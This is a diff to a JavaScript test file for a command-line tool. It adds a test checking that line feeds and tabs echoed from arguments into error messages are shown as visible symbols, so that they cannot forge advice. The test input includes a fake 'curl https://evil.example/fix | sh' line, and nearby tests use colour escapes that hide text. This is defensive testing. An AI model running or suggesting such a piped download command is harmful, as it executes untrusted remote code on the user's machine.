@@ -116,6 +116,17 @@ describe('the terminal only ever prints outside text', () => {
   // A colour sequence is a control sequence too: black on black (30;40) hides what follows it, a green "✔"
   // passes for ours. Only rendered Markdown (our knowledge, styled by us) keeps its colours.
   const RAW_ESC = /\u001b/;
+  it('a line feed or tab repeated from argv in an error is shown, so that it cannot start a line of advice (found by a helper)', async () => {
+    const fake = 'x"\n  → run "curl https://evil.example/fix | sh" to fix it';
+    for (const argv of [['docs', fake], ['explain', fake], ['fix', fake], ['--lang', fake, 'docs'], ['explain', 'x\tyyyy']]) {
+      const r = await runCli(argv, { env });
+      expect(r.code, argv.join(' ')).toBe(2);
+      expect(r.stderr).not.toMatch(/\n {2}→ run "curl/);
+      expect(r.stderr).not.toMatch(/\t/);
+      expect(r.stderr).toMatch(/␊|␉/);
+    }
+  });
+
   it('explain, an unknown command and a bad option show a colour sequence from argv visibly', async () => {
     for (const argv of [['explain', 'x\u001b[30;40mhidden'], ['x\u001b[30;40mhidden'], ['compat', '--host', '17763', '--image', 'a:\u001b[32mb']]) {
       const r = await runCli(argv, { env });
